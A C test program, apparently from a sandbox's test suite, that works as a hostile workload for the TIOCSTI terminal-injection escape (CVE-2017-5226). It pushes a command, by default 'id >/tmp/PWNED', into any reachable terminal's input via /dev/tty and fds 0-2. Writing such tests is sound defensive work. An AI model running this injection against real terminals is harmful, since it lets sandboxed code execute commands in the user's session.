/* tests/tiocsti.c: a hostile workload (bubblewrap's CVE-2017-5226).  It
 * pushes TEXT and a newline (default "id >/tmp/PWNED") into the input of
 * any terminal it can reach with TIOCSTI: its controlling terminal through
 * /dev/tty, then fds 0-2.  It prints what each attempt did; with -r, after
 * the first that worked, what its own stdin reads back.  Built static: it
 * runs in a busybox root. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int
push(int fd, const char *name, const char *text)
{
	const char *c;

	for (c = text; *c; c++)
		if (ioctl(fd, TIOCSTI, c) < 0) {
			printf("tiocsti %s: %s\n", name, strerror(errno));
			return -1;
		}
	printf("tiocsti %s: pushed\n", name);
	return 0;
}

int
main(int argc, char **argv)
{
	int readback = argc > 1 && !strcmp(argv[1], "-r");
	const char *arg = argc > 1 + readback ? argv[1 + readback] : "id >/tmp/PWNED";
	char text[256], name[16], buf[256];
	int fd, i, done = -1;
	ssize_t n;

	setvbuf(stdout, NULL, _IONBF, 0);
	snprintf(text, sizeof(text), "%s\n", arg);
	if ((fd = open("/dev/tty", O_RDWR | O_NOCTTY)) < 0)
		printf("tiocsti /dev/tty: %s\n", strerror(errno));
	else
		done = push(fd, "/dev/tty", text);
	for (i = 0; i <= 2 && done < 0; i++) {
		snprintf(name, sizeof(name), "fd%d", i);
		done = push(i, name, text);
	}
	if (done < 0 || !readback)
		return done < 0;
	/* Where did it land?  Ours, if our own stdin reads it back. */
	fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
	n = read(0, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	printf("tiocsti read back: [%s]\n", buf);
	return 0;
}
